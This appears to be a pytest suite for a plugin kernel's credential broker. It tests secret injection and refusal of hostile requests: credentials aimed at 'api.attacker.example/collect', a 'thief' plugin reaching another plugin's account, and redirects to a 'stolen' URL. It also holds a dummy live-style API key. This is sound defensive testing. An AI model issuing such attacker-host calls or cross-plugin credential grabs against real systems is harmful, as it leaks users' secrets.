"""The broker against a real local HTTP server: injection per account config, and the
hostile cases (undeclared host, another plugin's account, raw access without approval,
revoked grant, redirect out of the granted host). Secrets never reach the plugin."""
from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

import pytest

from comptoir.kernel.credentials.errors import CredentialNotFound
from comptoir.kernel.errors import ScopeDenied
from comptoir.kernel.runtime import Kernel

from .conftest import add_plugin, manifest

SECRET = "sk_live_broker_7f3a9c1e5d"


def _setup(k: Kernel, echo: str, plugin: str = "payer", *, config: dict[str, Any] | None = None,
           raw: bool = False, kind: str = "api_key", grant: bool = True) -> Any:
    m = manifest(plugin, accounts={"svc": {"kind": kind, "provider": "echo", "hosts": [echo], "raw_access": raw}})
    ctx = add_plugin(k, m, grant=False)
    if grant:
        k.services["credentials"].grant(plugin, [r for r in m.requested_rights() if not r.startswith("raw:")], "admin")
    st = k.services["credentials"].store
    st.create_account(plugin, "svc", kind=kind, provider="echo", config=config or {})
    st.put(plugin, "svc", "password" if kind == "basic" else "api_key", SECRET, cas=0)
    return ctx


def _echo(response: Any) -> dict[str, Any]:
    return json.loads(response.text)


@pytest.mark.parametrize("config,check", [
    ({}, lambda e: e["headers"]["Authorization"] == f"Bearer {SECRET}"),
    ({"inject": "header", "header": "X-Api-Key"}, lambda e: e["headers"]["X-Api-Key"] == SECRET),
    ({"inject": "query", "param": "key"}, lambda e: f"key={SECRET}" in e["path"]),
])
def test_injection_modes(ck_sqlite: Kernel, echo_server: str, config: dict[str, Any], check: Any) -> None:
    ctx = _setup(ck_sqlite, echo_server, config=config)
    r = ctx.http.get(f"http://{echo_server}/v1/ping?x=1", account="svc")
    assert r.status_code == 200 and check(_echo(r))
    # what the plugin can inspect afterwards carries no secret
    assert SECRET not in str(r.request.url) and SECRET not in repr(dict(r.request.headers))
    assert SECRET not in str(r.url)


def test_basic_and_hmac(ck: Kernel, echo_server: str) -> None:
    ctx = _setup(ck, echo_server, kind="basic", config={"username": "merchant"})
    echo = _echo(ctx.http.get(f"http://{echo_server}/basic", account="svc"))
    import base64

    assert echo["headers"]["Authorization"] == "Basic " + base64.b64encode(f"merchant:{SECRET}".encode()).decode()
    ctx2 = _setup(ck, echo_server, plugin="signer", config={"inject": "hmac"})
    body = b'{"amount": 1250}'
    echo = _echo(ctx2.http.post(f"http://{echo_server}/sign?a=1", account="svc", content=body))
    ts = echo["headers"]["X-Timestamp"]
    expected = hmac.new(SECRET.encode(), f"{ts}\nPOST\n/sign?a=1\n{hashlib.sha256(body).hexdigest()}".encode(),
                        hashlib.sha256).hexdigest()
    assert echo["headers"]["X-Signature"] == expected
    assert SECRET not in json.dumps(echo)


def test_undeclared_host_is_refused(ck: Kernel, echo_server: str) -> None:
    ctx = _setup(ck, echo_server)
    port = int(echo_server.rsplit(":", 1)[1])
    with pytest.raises(ScopeDenied, match="host:localhost"):
        ctx.http.get(f"http://localhost:{port}/", account="svc")
    with pytest.raises(ScopeDenied):
        ctx.http.get("https://api.attacker.example/collect", account="svc")
    with pytest.raises(ScopeDenied):  # same host, another port
        ctx.http.get(f"http://127.0.0.1:{port + 1}/")


def test_another_plugins_account_is_refused(ck: Kernel, echo_server: str) -> None:
    _setup(ck, echo_server, plugin="owner")
    thief = add_plugin(ck, manifest("thief", accounts={"svc": {"kind": "api_key", "provider": "echo",
                                                                "hosts": [echo_server], "raw_access": True}}))
    ck.services["credentials"].grant("thief", ["raw:svc"], "admin")
    with pytest.raises(CredentialNotFound) as err:
        thief.http.get(f"http://{echo_server}/", account="svc")
    assert SECRET not in err.value.message
    with pytest.raises(CredentialNotFound):
        thief.credentials.raw("svc")
    assert thief.credentials.accounts() == []


def test_account_right_is_required(ck_sqlite: Kernel, echo_server: str) -> None:
    ctx = _setup(ck_sqlite, echo_server)
    ck_sqlite.services["credentials"].revoke("payer", ["account:svc"], "admin")
    with pytest.raises(ScopeDenied, match="account:svc"):
        ctx.http.get(f"http://{echo_server}/", account="svc")
    # without a credential the declared host is still reachable
    assert "Authorization" not in _echo(ctx.http.get(f"http://{echo_server}/"))["headers"]


def test_revoked_host_refused_at_next_call(ck: Kernel, echo_server: str) -> None:
    ctx = _setup(ck, echo_server)
    assert ctx.http.get(f"http://{echo_server}/", account="svc").status_code == 200
    ck.services["credentials"].revoke("payer", [f"host:{echo_server}"], "admin")
    with pytest.raises(ScopeDenied):
        ctx.http.get(f"http://{echo_server}/", account="svc")


def test_raw_access_needs_manifest_and_approval(ck: Kernel, echo_server: str) -> None:
    plain = _setup(ck, echo_server, plugin="plain")
    with pytest.raises(ScopeDenied, match="raw:svc"):
        plain.credentials.raw("svc")
    ck.services["credentials"].grant("plain", ["raw:svc"], "admin")  # approval without manifest ask: still no
    with pytest.raises(ScopeDenied):
        plain.credentials.raw("svc")
    asker = _setup(ck, echo_server, plugin="asker", raw=True)
    with pytest.raises(ScopeDenied, match="raw:svc"):  # asks, but not approved
        asker.credentials.raw("svc")
    ck.services["credentials"].grant("asker", ["raw:svc"], "admin")
    assert asker.credentials.raw("svc") == SECRET
    meta = asker.credentials.accounts()
    assert meta[0]["name"] == "svc" and meta[0]["secrets"]["api_key"]["hint"] == "…1e5d"
    assert SECRET not in json.dumps(meta)


def test_redirects_are_not_followed(ck_sqlite: Kernel, echo_server: str) -> None:
    ctx = _setup(ck_sqlite, echo_server)
    r = ctx.http.get(f"http://{echo_server}/redirect", account="svc", follow_redirects=True)
    assert r.status_code == 302 and r.history == []
    assert r.headers["location"] == "http://example.invalid/stolen"


def test_journal_records_calls_redacted(ck: Kernel, echo_server: str) -> None:
    ctx = _setup(ck, echo_server, config={"inject": "query", "param": "key"})
    ctx.http.get(f"http://{echo_server}/ok", account="svc")
    ctx.http.get(f"http://{echo_server}/fail", account="svc")
    with pytest.raises(ScopeDenied):
        ctx.http.get("https://elsewhere.example/", account="svc")
    entries = ck.host.journal.entries(plugin="payer")
    hooks = {e.hook for e in entries}
    assert f"http:127.0.0.1" in hooks and "http:elsewhere.example" in hooks
    assert {e.outcome for e in entries} == {"ok", "error", "denied"}
    assert SECRET not in repr([(e.error, e.detail) for e in entries])
